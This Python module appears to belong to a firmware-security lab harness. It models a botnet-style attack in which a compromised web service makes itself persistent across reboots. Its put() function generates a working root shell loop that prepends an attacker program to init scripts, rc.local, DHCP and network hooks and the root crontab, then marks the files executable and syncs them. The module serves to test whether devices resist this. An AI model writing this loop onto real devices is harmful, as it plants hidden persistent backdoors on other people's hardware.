"""A web server that was taken over, and stays over a restart: what botnets had to do without, and later ones learnt."""

from collections.abc import Sequence

from firmward.lab.attacks import Attack, Need, Position, Result
from firmward.lab.means.program import script
from firmward.lab.means.taken_service import as_root, taken
from firmward.lab.target import Target, Witness
from firmward.model.chain import PLUG_INS

PLACES = (
    *("/etc/init.d/S99own", "/etc/rc.local", "/etc/profile.d/own.sh", "/etc/udhcpc/default.script"),
    *("/usr/bin/camera-selftest", "/var/www/cgi-bin/state.cgi", "/etc/network/if-up.d/own"),
    *("/data/S99own", "/data/rc.local", "/data/settings/rc.local", "/var/spool/cron/crontabs/root"),
)
"""Where devices start or source something, by name or because it lies there."""


def run(target: Target) -> Result:
    with taken(target) as service:
        service.run(as_root(put(script(target.challenge))))
        target.note(Witness.ATTACKER, f"puts a program of his own to {len(PLACES)} places from which devices start one")
    target.note(Witness.ATTACKER, "cuts the power, and switches the device on again")
    return target.withstands(ATTACK.within)


def put(own: str, places: Sequence[str] = PLACES) -> str:
    """In front of what is there, so that the device starts as before. The power is cut soon, and what is written is to
    be on the disk by then."""
    return f"""\
for place in {" ".join(places)}; do
	was=$(cat "$place")
	cat >"$place" <<'OWN'
{own}OWN
	echo "$was" >>"$place"
	chmod 755 "$place"
done
sync
"""


ATTACK = Attack(
    id="persist-from-service",
    title="A taken-over service stays over a restart",
    does="runs code in the web server, and from there has the device start a program of his own each time",
    position=Position.SERVICE,
    link=PLUG_INS,
    case="Hide 'N Seek (Bitdefender, 2018): the first botnet of devices that put itself into /etc/init.d to stay",
    foretold=("rootfs-writable", "world-writable", "setuid-unexpected", "hook-directory-writable"),
    run=run,
    takes=50.0,
    needs=(Need.NETWORK, Need.SCRIPT),
)
